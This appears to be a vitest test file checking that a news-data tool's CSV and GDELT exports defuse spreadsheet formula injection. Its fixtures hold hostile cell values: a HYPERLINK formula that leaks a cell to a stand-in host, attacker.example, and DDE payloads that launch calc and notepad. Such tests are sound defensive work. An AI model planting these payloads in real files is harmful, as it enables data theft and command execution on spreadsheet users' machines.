// CSV and TSV exports opened in a spreadsheet: text that begins like a formula is quoted, numbers stay numbers.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { safeCell } from "../../src/export/cells.js";
import { GDELT_COLUMNS } from "../../src/export/gdelt.js";
import { dyad } from "../cli/run-cli.js";

let dir: string;
let db: string;
const title = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
const source = "+cmd|' /C calc'!A0";
const author = "@SUM(1+1)*cmd|' /C notepad'!A0";
const url = '=HYPERLINK("http://attacker.example")';

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "dyad-formula-"));
  db = join(dir, "news.db");
  const text =
    "SEOUL (Example Wire) - China's foreign ministry on Monday accused South Korea of violating its airspace, officials said.\n" +
    "-1 was the number on the tail of the aircraft, the ministry added.\n";
  writeFileSync(
    join(dir, "hostile.jsonl"),
    `${JSON.stringify({ id: "hostile-1", title, source, author, url, published: "2024-05-13", text })}\n`,
  );
  const r = dyad(["ingest", join(dir, "hostile.jsonl"), "--db", db, "--workers", "0"]);
  expect(r.status).toBe(0);
});
/** RFC 4180 rows, as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || c === "\n") {
      row.push(cell);
      cell = "";
      if (c === "\n") {
        rows.push(row);
        row = [];
      }
    } else cell += c;
  }
  return rows;
}

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("safeCell", () => {
  it("quotes text that starts like a formula, after leading spaces too", () => {
    for (const v of ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "  =1+1"])
      expect(safeCell(v)).toBe(`'${v}`);
    for (const v of ["Seoul", "1-2", "a=b", "", "2024-05-13"]) expect(safeCell(v)).toBe(v);
    expect(safeCell(-4)).toBe(-4);
    expect(safeCell(null)).toBe(null);
  });
});

describe("export --format csv", () => {
  it("quotes the title, source and author cells that begin like formulas", () => {
    const r = dyad(["export", "--format", "csv", "--db", db]);
    expect(r.status).toBe(0);
    const [header, ...rows] = parseCsv(r.stdout);
    const cells = rows.find((x) => x[0] === "hostile-1") ?? [];
    const row = Object.fromEntries((header ?? []).map((h, i) => [h, cells[i]]));
    expect(row?.title).toBe(`'${title}`);
    expect(row?.source).toBe(`'${source}`);
    expect(row?.author).toBe(`'${author}`);
    expect(row?.url).toBe(`'${url}`);
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  });
});

describe("export --format gdelt", () => {
  it("quotes a SOURCEURL that begins like a formula and keeps a negative Goldstein a number", () => {
    const r = dyad(["export", "--format", "gdelt", "--db", db]);
    expect(r.status).toBe(0);
    const lines = r.stdout.trim().split("\n");
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      const cells = line.split("\t");
      expect(cells).toHaveLength(GDELT_COLUMNS.length);
      const at = (name: string) => cells[GDELT_COLUMNS.indexOf(name as (typeof GDELT_COLUMNS)[number])] ?? "";
      expect(at("SOURCEURL")).toBe(`'${url}`);
      const goldstein = at("GoldsteinScale");
      expect(goldstein).toMatch(/^-\d+(\.\d+)?$/);
      expect(Number(goldstein)).toBeLessThan(0);
      for (const cell of cells) if (cell !== goldstein) expect(cell).not.toMatch(/^\s*[=+@]|^-\D/);
    }
  });
});
